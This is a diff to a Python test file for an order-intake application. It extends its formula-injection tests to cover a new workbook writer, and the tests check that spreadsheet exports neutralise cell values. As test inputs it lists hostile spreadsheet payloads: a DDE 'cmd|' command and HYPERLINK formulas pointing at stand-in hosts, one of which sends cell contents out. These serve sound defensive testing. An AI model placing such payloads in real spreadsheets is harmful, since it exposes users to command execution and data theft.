@@ -20,6 +20,8 @@ from orderdesk.intake.files.mapping import Mapping
 from orderdesk.intake.files.reading import read_file
 from orderdesk.intake.files.rejects import rejects_text
 from orderdesk.intake.files.taking import take_file
+from orderdesk.intake.rules.workbook import write_workbook
+from orderdesk.rules.tables import read_table
 from orderdesk.ui.tables.columns import Column
 from orderdesk.ui.tables.copying import copied
 from orderdesk.ui.tables.grid_view import GridView
@@ -30,9 +32,13 @@ from tests.support.desk import SampleDesk
 STARTS = ("=", "+", "-", "@", "\t", "\r", "\0", "＝", "＋", "－", "＠")
 PAYLOADS = ("1+1", "cmd|'/C calc'!A0", 'HYPERLINK("http://x.example/?"&A1,"go")', "SUM(1,1)*2")
 HOSTILE = [start + payload for start in STARTS for payload in PAYLOADS] + [" =1+1", "\n=1+1", "'=1+1"]
-# Only here is a file for spreadsheets written; both neutralise.
+# Only here is a file for spreadsheets written; all neutralise.
 WRITING = {"csv.writer", "csv.DictWriter", "workbook.create_sheet", "openpyxl.Workbook"}
-WRITERS = {"orderdesk/intake/files/exporting.py", "orderdesk/intake/files/rejects.py"}
+WRITERS = {
+    "orderdesk/intake/files/exporting.py",
+    "orderdesk/intake/files/rejects.py",
+    "orderdesk/intake/rules/workbook.py",
+}
 
 
 def runs(cell: str) -> bool:
@@ -119,13 +125,30 @@ def test_a22_cells_on_the_clipboard_run_nothing_in_the_sheet_they_are_pasted_int
     assert [cell for line in lines for cell in line.split("\t") if runs(cell)] == []
 
 
-def test_a22_files_for_spreadsheets_are_written_in_two_places_only() -> None:
+def test_a22_files_for_spreadsheets_are_written_in_three_places_only() -> None:
     found = set()
     for path in modules():
         for node in ast.walk(tree_of(path)):
             if isinstance(node, ast.Attribute) and ast.unparse(node) in WRITING:
                 found.add(name_of(path))
     assert found == WRITERS
+
+
+def test_a22_a_rule_table_in_a_workbook_is_text_whatever_it_begins_with(tmp_path: Path) -> None:
+    hostile = '=HYPERLINK("http://evil.example","click")'
+    table = read_table(
+        {
+            "format": 1, "name": "evil", "version": 1, "hit_policy": "first",
+            "inputs": [{"fact": "tier", "type": "text"}], "outputs": [{"name": "role", "type": "text"}],
+            "rows": [{"when": {"tier": "= x"}, "then": {"role": hostile}, "note": hostile}],
+        }
+    )  # fmt: skip
+    write_workbook(tmp_path / "evil.xlsx", table)
+    book = load_workbook(tmp_path / "evil.xlsx")
+    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
+    assert hostile in [cell.value for cell in cells]
+    assert {cell.data_type for cell in cells} <= {"s", "n"}
+    assert all(cell.quotePrefix for cell in cells if cell.value is not None)
 
 
 def _flat(text: object) -> str:
